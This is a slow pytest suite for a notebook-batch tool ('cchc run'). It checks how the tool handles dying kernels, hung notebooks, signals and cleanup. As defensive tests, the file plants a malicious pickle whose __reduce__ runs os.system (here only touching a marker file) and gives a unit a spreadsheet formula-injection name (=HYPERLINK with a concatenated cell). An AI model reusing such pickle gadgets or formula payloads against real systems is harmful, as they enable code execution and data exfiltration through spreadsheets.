"""A batch that always ends: a kernel that dies, a notebook that hangs, a SIGTERM midway.

Real notebooks in real kernels (slow). Each run uses the sample with hostile unit names
and a pickle planted in its cache, so that the same runs also show that ``cchc run``
writes an inert ``summary.csv`` and never opens a pickle.
"""

from __future__ import annotations

import csv
import io
import json
import os
import pickle
import shutil
import signal
import subprocess
import sys
import tempfile
import time
from pathlib import Path

import nbformat
import pandas as pd
import psutil
import pytest
from cchc.engine.cache import fingerprint
from cchc.files import formula_like
from conftest import PROJECT

pytestmark = pytest.mark.slow
UNITS = "lao-cai,bat-xat,so-noi-vu"
HOSTILE_NAME = '=HYPERLINK("http://x"&A1,"x")'


class Payload:
    def __init__(self, marker: Path) -> None:
        self.marker = marker

    def __reduce__(self):
        return (os.system, (f"touch {self.marker}",))


@pytest.fixture(scope="module")
def data(sample_dir, tmp_path_factory) -> Path:
    folder = tmp_path_factory.mktemp("batch") / "data"
    shutil.copytree(sample_dir, folder)
    units = pd.read_csv(folder / "units.csv", dtype=str, keep_default_na=False)
    units.loc[units["unit_id"] == "so-noi-vu", "name"] = HOSTILE_NAME
    units.to_csv(folder / "units.csv", index=False, lineterminator="\n")
    return folder


def _template(tmp_path: Path, cell: str) -> Path:
    nb = nbformat.read(PROJECT / "notebooks" / "workbook.ipynb", as_version=4)
    nb.cells.insert(4, nbformat.v4.new_code_cell(f'if unit_id == "bat-xat":\n{cell}'))
    path = tmp_path / "template.ipynb"
    nbformat.write(nb, path)
    return path


def _popen(*args, env: dict | None = None) -> subprocess.Popen:
    return subprocess.Popen([sys.executable, "-m", "cchc", *map(str, args)],
                            stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True,
                            env={**os.environ, "PYTHONUTF8": "1", **(env or {})},
                            start_new_session=True)


def _batch(*args, env: dict | None = None) -> tuple[int, str, set[int]]:
    """Run ``cchc run``; return its code, stderr and every process it started."""
    process = _popen("run", *args, env=env)
    seen = _watch(process)
    _, stderr = process.communicate(timeout=600)
    return process.returncode, stderr, seen


def _watch(process: subprocess.Popen, until=lambda: False) -> set[int]:
    """The pids of every descendant of ``process`` seen while it runs (or until ``until``)."""
    seen: set[int] = set()
    parent = psutil.Process(process.pid)
    while process.poll() is None and not until():
        try:
            seen |= {p.pid for p in parent.children(recursive=True)}
        except psutil.NoSuchProcess:
            break
        time.sleep(0.2)
    return seen


def _left(pids: set[int], wait: float = 15) -> list[int]:
    """Those of ``pids`` still running after ``wait`` seconds at most."""
    deadline = time.monotonic() + wait
    while True:
        alive = [p for p in pids if psutil.pid_exists(p)
                 and psutil.Process(p).status() != psutil.STATUS_ZOMBIE]
        if not alive or time.monotonic() > deadline:
            return alive
        time.sleep(0.5)


def _kernel_folders(pid: int) -> list[Path]:
    return list(Path(tempfile.gettempdir()).glob(f"cchc-kernel-{pid}-*"))


def _manifest(out: Path) -> dict[str, dict]:
    manifest = json.loads((out / "manifest.json").read_text(encoding="utf-8"))
    return {u["unit_id"]: u for u in manifest["units"]}


def test_a_kernel_that_dies_fails_its_unit_and_the_rest_complete(data, tmp_path):
    """On a store (imported from the hostile folder): the batch reads its current version."""
    from cchc.intake.store import import_folder

    store = tmp_path / "store"
    import_folder(data, store)
    cache = tmp_path / "cache"
    cache.mkdir()
    marker = tmp_path / "pwned"
    (cache / f"evaluation-{fingerprint(store, '2024Q3')}.pickle").write_bytes(
        pickle.dumps(Payload(marker)))
    out = tmp_path / "out"
    code, stderr, seen = _batch("--data", store, "--period", "2024Q3", "--out", out, "--units",
                                UNITS, "--template", _template(tmp_path, "    import os\n"
                                                               "    os._exit(1)"),
                                env={"CCHC_CACHE": str(cache)})
    assert code == 1, stderr
    units = _manifest(out)
    assert units["bat-xat"]["ok"] is False and units["bat-xat"]["reason"] == "kernel_died"
    assert "DeadKernelError" in units["bat-xat"]["error"]
    assert [u for u, o in units.items() if o["ok"]] == ["overview", "lao-cai", "so-noi-vu"]
    assert (out / "so-noi-vu" / "workbook.html").exists()
    assert "failed: bat-xat: the kernel died midway" in stderr and "Traceback" not in stderr
    assert _left(seen) == []
    # the same run: the planted pickle never ran, and summary.csv holds no live formula
    assert not marker.exists() and "pickle" in stderr
    text = (out / "summary.csv").read_text(encoding="utf-8")
    cells = [c for row in csv.reader(io.StringIO(text, newline="")) for c in row]
    assert "'" + HOSTILE_NAME in cells and not [c for c in cells if formula_like(c)]


def test_a_notebook_that_hangs_is_stopped_at_the_time_limit(data, tmp_path):
    out = tmp_path / "out"
    code, stderr, seen = _batch("--data", data, "--period", "2024Q3", "--out", out, "--units",
                                UNITS, "--timeout", "20",
                                "--template", _template(tmp_path, "    import time\n"
                                                        "    while True:\n"
                                                        "        time.sleep(1)"))
    assert code == 1, stderr
    units = _manifest(out)
    assert units["bat-xat"]["reason"] == "timeout"
    assert units["bat-xat"]["error"] == (
        "no result within 20 s (--timeout): the notebook was stopped")
    assert all(units[u]["ok"] for u in ("overview", "lao-cai", "so-noi-vu"))
    assert "không xong trong 20 giây" in stderr
    assert not (out / "bat-xat").exists() or not any((out / "bat-xat").iterdir())
    assert _left(seen) == []


@pytest.mark.parametrize("sig", [signal.SIGTERM, signal.SIGINT], ids=["SIGTERM", "SIGINT"])
def test_a_signal_midway_stops_everything_and_leaves_nothing(data, tmp_path, sig):
    """SIGTERM to the batch alone (as a service manager sends it); Ctrl-C to its group."""
    out = tmp_path / "out"
    process = _popen("run", "--data", data, "--period", "2024Q3", "--out", out, "--jobs", "2")
    seen = _watch(process, until=lambda: bool(list(out.glob("*/workbook.html"))))
    seen |= {p.pid for p in psutil.Process(process.pid).children(recursive=True)}
    kernels = [p for p in seen if psutil.pid_exists(p)
               and "ipykernel" in " ".join(psutil.Process(p).cmdline())]
    assert kernels, "the batch runs its notebooks in kernels"
    if sig == signal.SIGTERM:
        process.send_signal(sig)
    else:
        os.killpg(process.pid, sig)
    _, stderr = process.communicate(timeout=120)
    assert process.returncode == (143 if sig == signal.SIGTERM else 130), stderr
    assert "interrupted" in stderr and "Traceback" not in stderr
    assert _left(seen) == []
    assert _kernel_folders(process.pid) == []
    assert not list(out.rglob("*.tmp"))
    for notebook in out.rglob("workbook.ipynb"):  # what was written is whole
        nbformat.validate(nbformat.read(notebook, as_version=4))
        assert (notebook.parent / "workbook.html").exists()
    assert not (out / "manifest.json").exists()


def test_a_batch_killed_outright_is_cleaned_up_by_the_next(data, tmp_path):
    """kill -9 of the batch: its workers and kernels end themselves; its kernel folder is
    removed when the next batch starts."""
    from cchc.apps.workers import remove_stale_roots

    out = tmp_path / "out"
    process = _popen("run", "--data", data, "--period", "2024Q3", "--out", out, "--jobs", "2")
    seen = _watch(process, until=lambda: bool(list(out.glob("*/workbook.html"))))
    seen |= {p.pid for p in psutil.Process(process.pid).children(recursive=True)}
    process.kill()
    process.communicate(timeout=60)
    assert _left(seen, wait=30) == []
    remove_stale_roots()  # what the next batch does first
    assert _kernel_folders(process.pid) == []


def test_each_unit_starts_with_a_clean_namespace_in_the_shared_kernel(data, tmp_path):
    """One worker, one kernel, three units: what a unit's cells defined is gone when the
    next unit starts (the reset is sent while the worker writes the pages)."""
    nb = nbformat.read(PROJECT / "notebooks" / "workbook.ipynb", as_version=4)
    nb.cells.insert(4, nbformat.v4.new_code_cell(
        'assert "left_by_a_unit" not in globals(), left_by_a_unit\nleft_by_a_unit = unit_id'))
    template = tmp_path / "template.ipynb"
    nbformat.write(nb, template)
    out = tmp_path / "out"
    code, stderr, _ = _batch("--data", data, "--period", "2024Q3", "--out", out, "--units",
                             UNITS, "--jobs", "1", "--template", template)
    assert code == 0, stderr
    assert all(u["ok"] for u in _manifest(out).values())


_STOPPED_IN_A_CALLBACK = """
import time, weakref
from cchc.apps.workers import exit_on_sigterm
exit_on_sigterm()
class Node: pass
def callback(_):
    raise SystemExit(143)  # what the SIGTERM handler raises, landing in a weakref callback
node = Node()
ref = weakref.ref(node, callback)
del node
time.sleep(30)
print("went on")
"""


def test_sigterm_landing_in_a_callback_still_ends_the_worker_quietly():
    # Python runs the handler between any two bytecodes: inside a weak reference's
    # callback its SystemExit was printed ("Exception ignored", a traceback) and ignored
    done = subprocess.run([sys.executable, "-c", _STOPPED_IN_A_CALLBACK],
                          capture_output=True, text=True, timeout=60)
    assert done.returncode == 143
    assert done.stdout == "" and done.stderr == ""
